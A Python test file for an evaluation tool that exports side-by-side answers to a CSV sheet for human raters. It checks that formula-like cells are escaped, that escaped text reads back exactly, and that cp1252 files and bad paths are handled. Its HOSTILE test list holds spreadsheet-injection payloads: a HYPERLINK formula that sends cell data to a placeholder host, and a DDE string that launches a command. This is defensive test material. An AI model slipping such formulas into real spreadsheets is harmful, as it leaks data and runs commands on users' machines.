"""The human sheet hands spreadsheets no live formula, reads back the same text, and reads Excel's cp1252 saves."""
from __future__ import annotations

import csv
import json

import pytest

from alpaca_nb.cli import main
from alpaca_nb.fileio import atomic_write_json, read_json
from alpaca_nb.sheet_csv import FORMULA_STARTS, cell_text, safe_cell

HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
           "\tTAB", "'=already quoted", "''=twice", "'plain quote", "- a list item", "fine text"]


def _outputs(generator: str, texts: list[str]) -> list[dict]:
    return [{"instruction": f"=Task {i}" if i % 2 else f"Task {i}", "output": t, "generator": generator,
             "dataset": "selfinstruct"} for i, t in enumerate(texts)]


def _export(tmp_path, capsys, model_texts):
    model = atomic_write_json(tmp_path / "model_outputs.json", _outputs("my-model", model_texts))
    reference = atomic_write_json(tmp_path / "ref.json", _outputs("ref", [f"ref {i}" for i in range(len(model_texts))]))
    assert main(["human-sheet", "--model-outputs", str(model), "--reference", str(reference),
                 "--out", str(tmp_path / "h.csv")]) == 0
    return json.loads(capsys.readouterr().out)


def _rows(sheet, encoding="utf-8-sig"):
    with open(sheet, encoding=encoding, newline="") as f:
        return list(csv.DictReader(f))


def test_no_cell_starts_like_a_formula_and_every_answer_reads_back_exactly(tmp_path, capsys):
    paths = _export(tmp_path, capsys, HOSTILE)
    rows = _rows(paths["sheet"])
    cells = [row[c] for row in rows for c in ("instruction", "output_A", "output_B")]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    assert any(c.startswith("'=HYPERLINK") for c in cells)
    key = read_json(paths["key"])["items"]
    for row in rows:  # the rater prefers the model everywhere
        row["label"] = "A" if key[row["item"]]["A"] == "my-model" else "B"
    with open(paths["sheet"], "w", encoding="utf-8-sig", newline="") as f:
        writer = csv.DictWriter(f, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    from alpaca_nb.human_eval import unblind_sheet

    _, unblinded = unblind_sheet(paths["sheet"])
    assert sorted(r["output_model"] for r in unblinded) == sorted(HOSTILE)
    assert {r["instruction"] for r in unblinded} == {f"=Task {i}" if i % 2 else f"Task {i}" for i in range(len(HOSTILE))}
    assert main(["human-score", "--sheet", paths["sheet"]]) == 0
    assert json.loads(capsys.readouterr().out)["wins"] == len(HOSTILE)


@pytest.mark.parametrize("text", HOSTILE + ["", "'", "''", "=", "'-"])
def test_cell_text_inverts_safe_cell(text):
    assert cell_text(safe_cell(text)) == text


def test_a_sheet_saved_by_excel_on_windows_in_cp1252_is_scored(tmp_path, capsys):
    paths = _export(tmp_path, capsys, ["café – naïve “quotes”", "résumé €5"])
    rows = _rows(paths["sheet"])
    key = read_json(paths["key"])["items"]
    for row in rows:
        row["label"] = "A" if key[row["item"]]["A"] == "my-model" else "B"
    with open(paths["sheet"], "w", encoding="cp1252", newline="") as f:  # Excel's "CSV (Comma delimited)"
        writer = csv.DictWriter(f, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    assert main(["human-score", "--sheet", paths["sheet"]]) == 0
    captured = capsys.readouterr()
    assert json.loads(captured.out)["wins"] == 2 and "cp1252" in captured.err


def test_a_sheet_in_an_encoding_that_cannot_be_told_is_one_clear_error(tmp_path, capsys):
    paths = _export(tmp_path, capsys, ["a", "b"])
    with open(paths["sheet"], "ab") as f:
        f.write(b"\x81\x8d\xff\xfe broken")  # not UTF-8, and 0x81 is undefined in cp1252
    assert main(["human-score", "--sheet", paths["sheet"]]) == 2
    err = capsys.readouterr().err
    assert paths["sheet"] in err and "CSV UTF-8" in err and "Traceback" not in err


def test_out_as_an_existing_directory_is_one_clear_error(tmp_path, capsys):
    model = atomic_write_json(tmp_path / "m.json", _outputs("my-model", ["a"]))
    reference = atomic_write_json(tmp_path / "r.json", _outputs("ref", ["b"]))
    (tmp_path / "sheets").mkdir()
    assert main(["human-sheet", "--model-outputs", str(model), "--reference", str(reference),
                 "--out", str(tmp_path / "sheets")]) == 2
    err = capsys.readouterr().err
    assert "is a directory" in err and "sheets" in err and "Traceback" not in err
